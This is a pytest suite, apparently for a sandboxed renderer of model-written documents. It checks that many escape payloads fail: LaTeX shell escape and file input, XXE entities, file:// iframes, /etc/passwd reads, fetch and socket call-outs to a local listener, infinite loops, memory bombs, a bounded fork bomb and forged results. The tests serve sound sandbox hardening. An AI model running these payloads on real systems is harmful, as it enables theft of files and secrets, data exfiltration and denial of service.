# ruff: noqa: E501 - an attack is easier to read in one line
"""What a model might write to get out of the renderer, to stop it, or to read what is not its own.

A canary file with a secret word stands for the user's files; it is readable for everybody outside of the sandbox. No
picture and no text of any attack may show it, and after each attack the renderer must draw the next text.
"""

from __future__ import annotations

import json
import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from trimtab.structeval import sandbox
from trimtab.structeval.formats import FORMATS
from trimtab.structeval.render import Rendered, Renderer, availability

SECRET = "quartzlantern"
FINE = {
    "HTML": "<h1>fine</h1>",
    "SVG": "<svg width='90' height='40'><text y='20'>fine</text></svg>",
    "Markdown": "# fine",
    "Typst": "= fine",
    "LaTeX": "fine $x$",
    "Vega": '{"title": "fine", "data": {"values": [{"a": 1}]}, "mark": "point", "encoding": {}}',
    "Matplotlib": "import matplotlib.pyplot as plt\nplt.plot([1]); plt.title('fine')",
    "Mermaid": "graph TD; A[fine] --> B",
    "React": "export default () => <p>fine</p>",
    "Vue": "<template><p>fine</p></template>",
}


@pytest.fixture(scope="module")
def renderer() -> Iterator[Renderer]:
    if sandbox.isolation().level != "bwrap":
        pytest.skip(f"no sandbox on this machine: {sandbox.isolation().why}")
    with Renderer(workers=1, page_seconds=4) as one:
        yield one


@pytest.fixture(scope="module")
def canary() -> Iterator[Path]:
    """A file of the user's, outside of everything that is bound into the sandbox."""
    path = Path.home() / f".trimtab-canary-{os.getpid()}"
    path.write_text(SECRET)
    path.chmod(0o644)
    yield path
    path.unlink()


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[int, list[str]]]:
    """A server on this machine: its port, and what has come in."""
    server = socket.create_server(("127.0.0.1", 0))
    seen: list[str] = []

    def serve() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                seen.append(str(connection.recv(200)))

    threading.Thread(target=serve, daemon=True).start()
    yield server.getsockname()[1], seen
    server.close()


def attack(renderer: Renderer, name: str, text: str) -> Rendered:
    """Render the attack; then the renderer must still be able to draw something harmless."""
    for engine in FORMATS[name].needs:
        if why := availability.missing(engine):
            pytest.skip(f"{name}: {why}")
    drawn = renderer.render(name, text)
    assert drawn.status != "unavailable", drawn.errors
    assert SECRET not in drawn.text and SECRET not in " ".join(drawn.errors)
    after = renderer.render(name, FINE[name])
    assert after.status == "rendered", after.errors
    assert "fine" in after.text
    return drawn


READ_FILES = {
    "LaTeX": [
        r"\documentclass{article}\begin{document}\input{FILE}\end{document}",
        r"\documentclass{article}\begin{document}\input{/etc/passwd}\end{document}",
        r"\documentclass{article}\usepackage{verbatim}\begin{document}\verbatiminput{FILE}\end{document}",
        r"\newread\f\openin\f=FILE \read\f to\line \line",
        r"\documentclass{article}\usepackage{graphicx}\begin{document}\includegraphics{FILE}\end{document}",
        r"\documentclass{article}\begin{document}\immediate\write18{cat FILE > x.tex}\input{x.tex}\end{document}",
        r"\documentclass{article}\begin{document}\input{|cat FILE}\end{document}",
    ],
    "Typst": [
        '#read("FILE")',
        '#read("../../../../FILE")',
        '#include "FILE"',
        '#image("FILE")',
        '#raw(read("/etc/passwd"))',
    ],
    "HTML": [
        "<p>a</p><iframe src='file://FILE'></iframe>",
        "<p>a</p><object data='file://FILE'></object><embed src='file://FILE'>",
        "<p>a</p><script>fetch('file://FILE').then(r => r.text()).then(t => document.body.append(t)).catch(() => {})</script>",
        "<p>a</p><script>location.href = 'file://FILE'</script>",
        "<p>a</p><meta http-equiv='refresh' content='0; url=file://FILE'>",
        "<p>a</p><script>location.href = 'view-source:file://FILE'; location.href = 'chrome://version'</script>",
    ],
    "SVG": [
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='90' height='90'>"
        "<rect width='9' height='9'/><image xlink:href='file://FILE' width='50' height='50'/><use xlink:href='FILE#a'/></svg>",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file://FILE'>]><svg xmlns='http://www.w3.org/2000/svg' width='90' height='30'>"
        "<text y='20'>&x;</text></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' width='90' height='90'><rect width='9' height='9'/><foreignObject "
        "width='90' height='90'><iframe xmlns='http://www.w3.org/1999/xhtml' src='file://FILE'/></foreignObject></svg>",
    ],
    "Markdown": ["# a\n\n<iframe src='file://FILE'></iframe>\n\n![x](file://FILE)"],
    "Vega": [
        '{"data": {"url": "file://FILE", "format": {"type": "csv"}}, "mark": "text", "encoding": {}}',
        '{"$schema": "/vega/", "data": [{"name": "a", "url": {"signal": "\'file://FILE\'"}}], "marks": []}',
        '{"data": {"values": [1]}, "mark": {"type": "image", "url": "file://FILE", "width": 90}, "encoding": {}}',
    ],
    "Mermaid": [
        "graph TD; A[\"<img src='file://FILE' onerror='document.title=1'>\"] --> B; click A href \"file://FILE\""
    ],
    "Vue": ['<template src="FILE"></template>', "<template><p>x</p></template><style>@import 'file://FILE';</style>"],
    "Matplotlib": [
        "import matplotlib.pyplot as plt\nplt.title(open('FILE').read())",
        "import subprocess, matplotlib.pyplot as plt\n"
        "plt.title(subprocess.run('cat FILE; ls -a ~; ls /root /home', shell=True, capture_output=True, text=True).stdout)",
        "import os, matplotlib.pyplot as plt\nplt.title(str(dict(os.environ)) + str(os.listdir('/')))",
        "import os\nos.symlink('FILE', 'figure-0.png')",
    ],
}


@pytest.mark.parametrize(("name", "text"), [(name, text) for name, texts in READ_FILES.items() for text in texts])
def test_no_file_of_the_user_is_read(renderer: Renderer, canary: Path, name: str, text: str) -> None:
    attack(renderer, name, text.replace("FILE", str(canary)))


CALL_OUT = {
    "HTML": [
        "<p>a</p><img src='http://127.0.0.1:PORT/i'><script src='http://127.0.0.1:PORT/s'></script><link rel='stylesheet' "
        "href='http://127.0.0.1:PORT/c'><link rel='preconnect' href='http://127.0.0.1:PORT'>",
        "<p>a</p><script>fetch('http://127.0.0.1:PORT').catch(() => 0); navigator.sendBeacon('http://127.0.0.1:PORT', 'x');"
        "new WebSocket('ws://127.0.0.1:PORT'); new EventSource('http://127.0.0.1:PORT');"
        "new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]}).createDataChannel('a')</script>",
        "<p>a</p><meta http-equiv='refresh' content='0; url=http://127.0.0.1:PORT/'>",
        "<p>a</p><form action='http://127.0.0.1:PORT' method='post'><input></form><script>document.forms[0].submit()</script>",
        "<p>a</p><script>open('http://127.0.0.1:PORT'); top.location = 'http://127.0.0.1:PORT'</script>",
        "<p>a</p><script>new Worker(URL.createObjectURL(new Blob([\"fetch('http://127.0.0.1:PORT')\"])))</script>",
    ],
    "SVG": [
        "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><rect width='5' height='5'/><image "
        "href='http://127.0.0.1:PORT/a.png' width='9' height='9'/></svg>"
    ],
    "Markdown": ["![a](http://127.0.0.1:PORT/a.png) text"],
    "Vega": [
        '{"data": {"values": [1]}, "mark": {"type": "image", "url": "http://127.0.0.1:PORT/a.png", "width": 90}, "encoding": {}}',
        '{"$schema": "/vega/", "width": 9, "height": 9, "signals": [{"name": "u", "value": "http://127.0.0.1:PORT"}], "data": '
        '[{"name": "a", "transform": [{"type": "formula", "as": "x", "expr": "loadData(u)"}]}], "marks": []}',
    ],
    "Typst": ['#image("http://127.0.0.1:PORT/a.png")', '#import "@preview/example:0.1.0"'],
    "Matplotlib": [
        "import socket\nsocket.create_connection(('127.0.0.1', PORT), 2).send(b'out')",
        "import urllib.request as u\nu.urlopen('http://127.0.0.1:PORT', timeout=2)",
    ],
}


@pytest.mark.parametrize(("name", "text"), [(name, text) for name, texts in CALL_OUT.items() for text in texts])
def test_nothing_reaches_the_network(renderer: Renderer, listener: tuple[int, list[str]], name: str, text: str) -> None:
    port, seen = listener
    attack(renderer, name, text.replace("PORT", str(port)))
    assert seen == []


NEVER_ENDS = {
    "HTML": ["<p>a</p><script>for (;;) {}</script>", "<p>a</p><script>setTimeout(() => { for (;;) {} }, 1)</script>"],
    "React": ["export default () => { for (;;) {} }"],
    "LaTeX": [r"\documentclass{article}\begin{document}\loop\iftrue\repeat\end{document}", r"\def\a{\a}\a"],
    "Typst": ["#let f(n) = f(n + 1)\n#f(0)", "#{ let i = 0; while true { i += 1 } }"],
    "Matplotlib": ["while True: pass"],
}


@pytest.mark.parametrize(("name", "text"), [(name, text) for name, texts in NEVER_ENDS.items() for text in texts])
def test_what_never_ends_is_stopped(renderer: Renderer, name: str, text: str) -> None:
    assert attack(renderer, name, text).status == "failed"


ANNOYS = {
    "alert loop": "<p>a</p><script>for (let i = 0; i < 1e4; i++) { alert(i); confirm(i); prompt(i) }</script>",
    "popups": "<p>a</p><script>for (let i = 0; i < 50; i++) open('about:blank', '_blank')</script>",
    "download": "<p>a</p><a id='a' download='x.exe' href='data:application/octet-stream,x'>x</a>"
    "<script>for (let i = 0; i < 20; i++) document.getElementById('a').click()</script>",
    "service worker": "<p>a</p><script>navigator.serviceWorker?.register('/sw.js').catch(() => 0)</script>",
    "leaving": "<p>a</p><script>onbeforeunload = () => 'stay'; history.pushState(0, '', '/other')</script>",
    "print": "<p>a</p><script>print()</script>",
    "permissions": "<p>a</p><script>navigator.geolocation?.getCurrentPosition(() => 0); Notification?.requestPermission()</script>",
    "full screen": "<p>a</p><script>document.documentElement.requestFullscreen().catch(() => 0)</script>",
    "reload": "<p>a</p><script>location.reload()</script>",
    "frames": "<p>a</p><script>for (let i = 0; i < 200; i++) document.body.append(document.createElement('iframe'))</script>",
}


@pytest.mark.parametrize("text", ANNOYS.values(), ids=ANNOYS)
def test_a_page_that_annoys_is_only_a_page(renderer: Renderer, text: str) -> None:
    attack(renderer, "HTML", text)


def test_a_hundred_megabytes_are_not_passed_on(renderer: Renderer) -> None:
    page = "<p id='p'></p><script>document.getElementById('p').textContent = 'x '.repeat(5e7)</script>"
    drawn = attack(renderer, "HTML", page)
    assert len(drawn.text) <= 200_000
    script = "import matplotlib.pyplot as plt\nprint('x' * 100_000_000); plt.title('y ' * 10_000)"
    assert len(attack(renderer, "Matplotlib", script).text) <= 200_000


def test_a_file_that_grows_is_cut_off(renderer: Renderer) -> None:
    script = "f = open('big.png', 'wb')\nfor i in range(200): f.write(b'x' * 1_000_000); f.flush()"
    assert "OSError" in " ".join(attack(renderer, "Matplotlib", script).errors)
    tex = (
        r"\newwrite\f\immediate\openout\f=a.txt \loop\iftrue\immediate\write\f{xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx}\repeat"
    )
    assert attack(renderer, "LaTeX", tex).status == "failed"


def test_memory_is_limited(renderer: Renderer) -> None:
    script = "a = []\nwhile True: a.append(bytearray(50_000_000))"
    assert "MemoryError" in " ".join(attack(renderer, "Matplotlib", script).errors)
    page = "<p>a</p><script>const a = []; for (;;) a.push(new Array(1e6).fill({}))</script>"
    assert attack(renderer, "HTML", page).status == "failed"


def test_a_bounded_fork_bomb_meets_a_limit_and_leaves_nothing(renderer: Renderer) -> None:
    script = (
        "import os, time, matplotlib.pyplot as plt\nmade = 0\n"
        "try:\n    while made < 500:\n        if os.fork() == 0:\n            time.sleep(60); os._exit(0)\n        made += 1\n"
        "except OSError:\n    pass\nplt.title(f'made {made}')"
    )
    drawn = attack(renderer, "Matplotlib", script)
    made = int(drawn.text.split("made ")[1].split()[0])
    assert 0 < made < 32


def test_a_script_cannot_touch_its_keeper(renderer: Renderer) -> None:
    script = (
        "import os, signal, matplotlib.pyplot as plt\nout = []\n"
        "for pid in range(1, 200):\n    for do in (lambda: os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None,\n"
        "               lambda: out.append(open(f'/proc/{pid}/mem', 'rb+'))):\n"
        "        try: do()\n        except OSError: pass\nplt.plot([1]); plt.title('alone')"
    )
    assert attack(renderer, "Matplotlib", script).status == "rendered"


@pytest.mark.parametrize(
    "script",
    [
        "import os\nos._exit(0)",
        "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
        "import ctypes\nctypes.string_at(0)",
    ],
)
def test_a_script_that_dies_draws_nothing(renderer: Renderer, script: str) -> None:
    assert attack(renderer, "Matplotlib", script).status == "failed"


def test_a_forged_result_is_not_believed(renderer: Renderer) -> None:
    script = (
        "import json, os\nopen('figure-0.png', 'wb').write(b'\\x89PNG\\r\\n\\x1a\\n' + b'0' * 99)\n"
        "open('result.json', 'w').write(json.dumps({'errors': [], 'words': ['forged']}))\nos._exit(0)"
    )
    drawn = attack(renderer, "Matplotlib", script)
    assert drawn.status == "failed" and drawn.png is None


def test_a_diagram_cannot_change_the_next_one(renderer: Renderer) -> None:
    first = (
        "%%{init: {'theme': 'dark', 'securityLevel': 'loose', 'themeCSS': '* { display: none }'}}%%\ngraph TD; A --> B"
    )
    plain = renderer.render("Mermaid", FINE["Mermaid"])
    attack(renderer, "Mermaid", first)
    assert renderer.render("Mermaid", FINE["Mermaid"]).png == plain.png


def test_the_programs_of_the_sandbox_hold_no_secrets_of_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    if sandbox.isolation().level != "bwrap":
        pytest.skip("no sandbox on this machine")
    monkeypatch.setenv("TRIMTAB_CANARY", SECRET)
    process = sandbox.spawn(["env"])
    assert process.stdout is not None
    told = process.stdout.read().decode()
    sandbox.kill(process)
    assert "PATH=" in told and SECRET not in told


def test_json_of_the_page_is_only_data(renderer: Renderer) -> None:
    """The page cannot replace what measures it, because that runs in a world of its own."""
    page = (
        f"<p>real</p><script>JSON.stringify = () => {json.dumps(SECRET)}; Object.defineProperty(HTMLElement.prototype, "
        f"'innerText', {{get: () => {json.dumps(SECRET)}}})</script>"
    )
    assert attack(renderer, "HTML", page).text.strip() == "real"
